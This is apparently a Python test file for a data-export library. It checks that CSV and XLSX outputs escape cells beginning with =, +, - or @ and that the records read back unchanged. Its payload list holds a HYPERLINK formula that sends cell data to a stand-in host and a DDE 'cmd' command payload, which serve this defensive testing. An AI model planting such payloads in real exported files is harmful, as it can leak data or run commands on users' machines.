"""CSV exports never start a text cell with a formula character (issue 10, item 5); the reader takes the
escape off again, so what Siaga writes reads back as the same records."""

from __future__ import annotations

import csv
import dataclasses
from pathlib import Path

import openpyxl
from hypothesis import given
from hypothesis import strategies as st

from siaga.formats import COLUMNS, TABLES, read_dataset, write_dataset, write_workbook
from siaga.formats.escape import DANGEROUS, escape_text, unescape_text
from siaga.formats.records import Dataset
from siaga.scenarios import load_scenario

#: The probe's payloads (issue 10), plus a tab and a quote that is really part of a name.
PAYLOADS = ('=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)",
            "-2+3", "'=sudah dikutip", "\tTab")
_START = st.sampled_from(["", *DANGEROUS, "'", "''", " "])


@given(st.tuples(_START, st.text(max_size=12)).map("".join))
def test_escape_round_trips_and_never_starts_with_a_formula_character(text):
    escaped = escape_text(text)
    assert unescape_text(escaped) == text
    assert escaped[:1] not in DANGEROUS
    assert escaped == text or escaped == "'" + text


@given(st.text(max_size=12))
def test_unescape_leaves_ordinary_text_alone(text):
    if not text.lstrip("'")[:1] or text.lstrip("'")[0] not in DANGEROUS:
        assert unescape_text(text) == text and escape_text(text) == text


def payload_dataset(dataset: Dataset) -> Dataset:
    """The dataset with the payloads in unit and person names, indicator notes and category reasons."""
    def named(records, field, start=0):
        return [dataclasses.replace(r, **{field: PAYLOADS[(i + start) % len(PAYLOADS)] + " " + getattr(r, field)})
                if i < 3 * len(PAYLOADS) else r for i, r in enumerate(records)]
    units = named(dataset.units, "name")
    personnel = named(dataset.personnel, "name", 1)
    indicators = [dataclasses.replace(r, note=PAYLOADS[i % len(PAYLOADS)]) if i < len(PAYLOADS) else r
                  for i, r in enumerate(dataset.indicators)]
    tps = [dataclasses.replace(r, category="rawan", category_reason=PAYLOADS[i % len(PAYLOADS)])
           if i < len(PAYLOADS) else r for i, r in enumerate(dataset.tps)]
    return Dataset(tps, units, personnel, indicators, synthetic=dataset.synthetic)


def _cells(folder: Path, kind: str) -> list[list[str]]:
    with open(folder / f"{kind}.csv", newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_export_holds_no_text_cell_a_spreadsheet_would_run(tmp_path):
    """Every text cell of every CSV starts with something other than = + - @ tab CR; numbers keep their minus."""
    dataset = payload_dataset(load_scenario("kediri-kota-pilkada-2024").dataset)
    write_dataset(dataset, tmp_path)
    for kind in TABLES:
        for row in _cells(tmp_path, kind)[1:]:
            for cell, column in zip(row, COLUMNS[kind], strict=True):
                if column.type in ("int", "float"):
                    continue
                assert cell[:1] not in DANGEROUS, (kind, column.name, cell)
    units = _cells(tmp_path, "units")
    assert any(row[1].startswith("'=cmd|") for row in units) and any(row[1].startswith("'@SUM") for row in units)
    assert any(row[1].startswith("''=sudah") for row in units)
    tps = _cells(tmp_path, "tps")
    assert all(row[7].startswith("-") for row in tps[1:])  # lat, a number column: the minus stays
    text = (tmp_path / "units.csv").read_text(encoding="utf-8")
    assert "\n=" not in text and ",=" not in text and ",+" not in text and ",@" not in text


def test_export_import_export_is_byte_identical(tmp_path):
    """write -> read -> write gives the same bytes, and the records read are the ones written (quote off)."""
    dataset = payload_dataset(load_scenario("kediri-kota-pilkada-2024").dataset)
    write_dataset(dataset, tmp_path / "a")
    back = read_dataset(tmp_path / "a").dataset
    assert back.units == dataset.units and back.personnel == dataset.personnel
    assert back.indicators == dataset.indicators and back.tps == dataset.tps
    write_dataset(back, tmp_path / "b")
    for kind in TABLES:
        assert (tmp_path / "a" / f"{kind}.csv").read_bytes() == (tmp_path / "b" / f"{kind}.csv").read_bytes()


def test_workbook_stores_payloads_as_text_never_formulas(tmp_path):
    dataset = payload_dataset(load_scenario("kediri-kota-pilkada-2024").dataset)
    path = write_workbook(dataset, tmp_path / "siaga.xlsx")
    sheet = openpyxl.load_workbook(path)["units"]
    names = [cell for cell in sheet["B"][1:] if str(cell.value).startswith(("=", "+", "@"))]
    assert names and all(cell.data_type == "s" for cell in names)
    stripped = [dataclasses.replace(u, name=u.name.strip()) for u in dataset.units]  # XLSX cells are stripped
    assert read_dataset(path).dataset.units == stripped
